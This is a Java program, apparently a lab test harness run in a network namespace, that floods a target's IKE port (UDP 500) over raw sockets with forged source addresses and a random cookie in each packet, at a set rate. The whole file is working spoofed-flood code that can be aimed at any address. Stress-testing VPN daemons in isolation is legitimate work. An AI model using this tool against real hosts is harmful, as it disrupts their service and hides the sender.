package io.vanth.lab;

import java.io.IOException;
import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.lang.invoke.MethodHandle;
import java.net.InetAddress;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.HexFormat;
import java.util.SplittableRandom;

/// Sends one IKE message again and again, each time with another cookie and from a forged address: a program of its own,
/// that runs in a namespace.
final class Flood {
    private static final int AF_INET = 2;
    private static final int SOCK_RAW = 3;
    /// The sender writes the IP header, with whatever source address.
    private static final int IPPROTO_RAW = 255;
    private static final int IP_HEADER = 20;
    private static final int UDP_HEADER = 8;
    private static final int ADDRESS_SIZE = 16;
    private static final int PER_ROUND_SECOND = 500;
    private static final int SOURCE_OFFSET = 12;
    private static final int COOKIE_OFFSET = IP_HEADER + UDP_HEADER;
    private static final String ANYBODY = "0.0.0.0";
    private static final int NOBODYS_NETWORK = 10 << 24 | 99 << 16;
    /// Where nobody listens at whom the forged address belongs to.
    private static final int SOURCE_PORT = 501;
    private static final int IKE_PORT = 500;

    private static final ValueLayout.OfInt NETWORK_ORDER = ValueLayout.JAVA_INT_UNALIGNED
            .withOrder(ByteOrder.BIG_ENDIAN);

    private final MethodHandle sendto;
    private final MemorySegment datagram;
    private final MemorySegment target;
    private final int socket;
    private final boolean anybody;

    private Flood(Arena arena, String source, byte[] destination, byte[] message) throws Throwable {
        this.anybody = source.equals(ANYBODY);
        this.sendto = function("sendto", FunctionDescriptor.of(ValueLayout.JAVA_LONG, ValueLayout.JAVA_INT,
                ValueLayout.ADDRESS, ValueLayout.JAVA_LONG, ValueLayout.JAVA_INT, ValueLayout.ADDRESS,
                ValueLayout.JAVA_INT));
        this.datagram = arena.allocateFrom(ValueLayout.JAVA_BYTE,
                datagram(InetAddress.ofLiteral(source).getAddress(), destination, message));
        this.target = arena.allocate(ADDRESS_SIZE);
        target.set(ValueLayout.JAVA_SHORT, 0, (short) AF_INET);
        MemorySegment.copy(MemorySegment.ofArray(destination), 0, target, 4, destination.length);
        this.socket = (int) function("socket", FunctionDescriptor.of(ValueLayout.JAVA_INT, ValueLayout.JAVA_INT,
                ValueLayout.JAVA_INT, ValueLayout.JAVA_INT)).invokeExact(AF_INET, SOCK_RAW, IPPROTO_RAW);
        if (socket < 0) {
            throw new IOException("no raw socket");
        }
    }

    /// Arguments: source address, or 0.0.0.0 for each of 10.99.0.0/16; target address, datagrams per second, seconds,
    /// message in hexadecimal digits.
    public static void main(String[] args) throws Throwable {
        try (Arena arena = Arena.ofConfined()) {
            var flood = new Flood(arena, args[0], InetAddress.ofLiteral(args[1]).getAddress(),
                    HexFormat.of().parseHex(args[4]));
            System.out.println("sent " + flood.send(Integer.parseInt(args[2]), Integer.parseInt(args[3])));
        }
    }

    @SuppressWarnings("restricted")
    private static MethodHandle function(String name, FunctionDescriptor shape) {
        Linker linker = Linker.nativeLinker();
        return linker.downcallHandle(linker.defaultLookup().findOrThrow(name), shape);
    }

    /// The kernel fills in the header's length and checksum; a UDP checksum of 0 is none (RFC 768).
    private static byte[] datagram(byte[] source, byte[] destination, byte[] message) {
        return ByteBuffer.allocate(IP_HEADER + UDP_HEADER + message.length)
                .put(0, (byte) 0x45).put(8, (byte) 64).put(9, (byte) 17)
                .put(SOURCE_OFFSET, source).position(SOURCE_OFFSET + source.length).put(destination)
                .putShort((short) SOURCE_PORT).putShort((short) IKE_PORT)
                .putShort((short) (UDP_HEADER + message.length)).putShort((short) 0)
                .put(message).array();
    }

    private long send(int perSecond, int seconds) throws Throwable {
        var random = new SplittableRandom(1);
        long start = System.nanoTime();
        long sent = 0;
        for (long due = 0; due < (long) perSecond * seconds; due += perSecond / PER_ROUND_SECOND) {
            while (System.nanoTime() - start < due * 1_000_000_000L / perSecond) {
                Thread.onSpinWait();
            }
            for (int i = 0; i < perSecond / PER_ROUND_SECOND; i++) {
                if (anybody) {
                    datagram.set(NETWORK_ORDER, SOURCE_OFFSET, NOBODYS_NETWORK | random.nextInt(1 << 16));
                }
                datagram.set(ValueLayout.JAVA_LONG_UNALIGNED, COOKIE_OFFSET, random.nextLong() | 1);
                long written = (long) sendto.invokeExact(socket, datagram, datagram.byteSize(), 0, target,
                        ADDRESS_SIZE);
                sent += written > 0 ? 1 : 0;
            }
        }
        return sent;
    }
}
